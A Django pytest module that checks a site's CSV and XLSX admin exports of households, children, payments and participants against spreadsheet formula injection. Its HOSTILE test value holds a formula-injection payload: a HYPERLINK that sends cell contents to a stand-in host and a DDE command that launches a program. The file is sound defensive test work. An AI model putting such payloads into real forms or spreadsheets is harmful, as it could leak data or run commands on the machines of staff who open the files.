"""Every CSV and XLSX the site hands out, with a formula in every text column of its data.

A name typed into a public form reaches coordinators' spreadsheets (payments, participant
lists, the households' and children's lists). Nothing in such a file may start a formula: not
the cell, not the part after a comma (a comma-locale program splits our semicolon files there),
not the line after a line break; an XLSX cell holding text is a text cell, never a formula.
"""

import csv
import datetime
import io
import re
from pathlib import Path

import pytest
import time_machine
from django.db import models
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from families.models import Child, SupportFamily
from kalliola.reports.export import FORMULA_STARTS
from tests.factories.families import ChildFactory
from tests.factories.meetings import SupportCaseFactory
from tests.factories.relationships import RateFactory, RelationshipFactory, StayFactory, at
from tests.factories.trainings import (
    EnrollmentFactory,
    InfoSessionFactory,
    RegistrationFactory,
    TrainingGroupFactory,
)
from trainings.models import InfoSession, TrainingGroup

pytestmark = pytest.mark.django_db

# A formula at the start, after a comma and a semicolon, after a line break; quotes that a
# careless writer would not double; a control character a worksheet cannot hold.
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"x"),=cmd|\' /C calc\'!A0;+1\n@SUM(1)\x07-2'
MAY = datetime.date(2026, 5, 1)
ROOT = Path(__file__).resolve().parents[2]


def _poison(*objects):
    """Put the hostile value into every free-text column of these rows (as a public form could)."""
    for obj in objects:
        values = {}
        for field in obj._meta.concrete_fields:
            if isinstance(field, models.CharField | models.TextField) and not field.choices:
                # Ended by the row's id: unique columns (an e-mail address) stay unique.
                limit = field.max_length or 200
                values[field.name] = f"{HOSTILE[: max(limit - 8, 1)]}{obj.pk}"[:limit]
        type(obj).objects.filter(pk=obj.pk).update(**values)


def _formula_parts(text: str) -> list[str]:
    """Every piece of a cell a spreadsheet could read as the start of a cell."""
    return [part for part in re.split(r"[,;\n\r]", text) if part.startswith(FORMULA_STARTS)]


def _assert_safe_csv(content: bytes, expect_hostile: bool = True):
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    lines = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    width = len(lines[0])
    found = False
    for line in lines:
        assert len(line) == width, line  # a value with the separator stays one cell
        for cell in line:
            assert not cell.startswith(FORMULA_STARTS), cell
            assert _formula_parts(cell) == [], cell
            found = found or "'=HYPERLINK(" in cell
    assert found or not expect_hostile
    # Read with a comma as the separator, no piece starts a formula either.
    for line in text[1:].splitlines():
        for piece in line.split(","):
            assert not piece.lstrip('"').startswith(("=", "+", "@")), piece


def _assert_safe_xlsx(content: bytes, expect_hostile: bool = True):
    workbook = load_workbook(io.BytesIO(content))
    found = False
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    assert not cell.value.startswith(FORMULA_STARTS), cell.value
                    assert _formula_parts(cell.value) == [], cell.value
                    found = found or "'=HYPERLINK(" in cell.value
    assert found or not expect_hostile


def _admin_url(name, *args):
    with translation.override("en"):
        return reverse(f"admin:{name}", args=args)


def _action(client, model_name: str, action: str, pks):
    return client.post(
        _admin_url(f"{model_name}_changelist"),
        {"action": action, "_selected_action": [str(pk) for pk in pks]},
    )


@pytest.fixture
def hostile_data(db):
    with time_machine.travel(at(datetime.date(2026, 6, 15), 12), tick=False):
        RateFactory()
        relationship = RelationshipFactory(start_date=datetime.date(2026, 1, 1))
        StayFactory(relationship=relationship, starts_at=at(MAY), ends_at=at(MAY.replace(day=3)))
        session = InfoSessionFactory(days_ahead=5)
        registration = RegistrationFactory(session=session)
        group = TrainingGroupFactory()
        enrollment = EnrollmentFactory(group=group)
        child = ChildFactory()
        case = SupportCaseFactory()
        _poison(
            relationship.family,
            relationship.child,
            child,
            session,
            registration.family,
            group,
            enrollment.family,
            case,
        )
    return {"relationship": relationship, "case": case}


@pytest.fixture
def coordinator_client(client, coordinator):
    client.force_login(coordinator)
    return client


def test_household_list_export_neutralises_every_text_column(coordinator_client, hostile_data):
    response = _action(
        coordinator_client,
        "families_supportfamily",
        "export_csv",
        SupportFamily.objects.values_list("pk", flat=True),
    )
    assert response.status_code == 200
    _assert_safe_csv(response.content)


def test_children_export_neutralises_every_text_column(coordinator_client, hostile_data):
    response = _action(
        coordinator_client,
        "families_child",
        "export_csv",
        Child.objects.values_list("pk", flat=True),
    )
    assert response.status_code == 200
    _assert_safe_csv(response.content)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_payment_export_neutralises_the_household_name(coordinator_client, hostile_data, fmt):
    response = coordinator_client.get(
        _admin_url(f"families_paymentmonth_{fmt}"), {"month": "2026-05"}
    )
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    if fmt == "csv":
        _assert_safe_csv(response.content)
    else:
        _assert_safe_xlsx(response.content)


@pytest.mark.parametrize(
    ("model_name", "model"),
    [("trainings_infosession", InfoSession), ("trainings_traininggroup", TrainingGroup)],
)
def test_participant_lists_neutralise_names_and_contact_details(
    coordinator_client, hostile_data, model_name, model
):
    response = _action(
        coordinator_client,
        model_name,
        "export_participants",
        model.objects.values_list("pk", flat=True),
    )
    assert response.status_code == 200
    _assert_safe_csv(response.content)


def test_support_meeting_statistics_export_is_safe(coordinator_client, hostile_data):
    response = _action(
        coordinator_client, "meetings_supportcase", "export_statistics", [hostile_data["case"].pk]
    )
    assert response.status_code == 200
    # Codes and counts only: no free text reaches this file at all.
    _assert_safe_csv(response.content, expect_hostile=False)


def test_statistics_exports_are_safe(coordinator_client, hostile_data):
    page = coordinator_client.get(_admin_url("kalliola_statistics"), {"year": 2026})
    assert page.status_code == 200
    keys = sorted(set(re.findall(r"/tilastot/([\w-]+)\.csv", page.content.decode())))
    assert keys
    for key in keys:
        response = coordinator_client.get(
            _admin_url("kalliola_statistics_export", key, "csv"), {"year": 2026}
        )
        assert response.status_code == 200, key
        _assert_safe_csv(response.content, expect_hostile=False)
    response = coordinator_client.get(
        _admin_url("kalliola_statistics_export", "kaikki", "xlsx"), {"year": 2026}
    )
    assert response.status_code == 200
    _assert_safe_xlsx(response.content, expect_hostile=False)


def test_one_module_writes_every_spreadsheet():
    """CSV and XLSX are written in kalliola/reports/export.py only, so every file is guarded."""
    writer = ROOT / "kalliola" / "reports" / "export.py"
    offenders = []
    for package in ("kalliola", "families", "trainings", "meetings", "programme"):
        for path in (ROOT / package).rglob("*.py"):
            if path == writer or "migrations" in path.parts:
                continue
            source = path.read_text()
            for needle in (r"^import csv$", r"^from csv ", "openpyxl", "text/csv", "spreadsheetml"):
                if re.search(needle, source, re.MULTILINE):
                    offenders.append(f"{path.relative_to(ROOT)}: {needle}")
    assert offenders == []
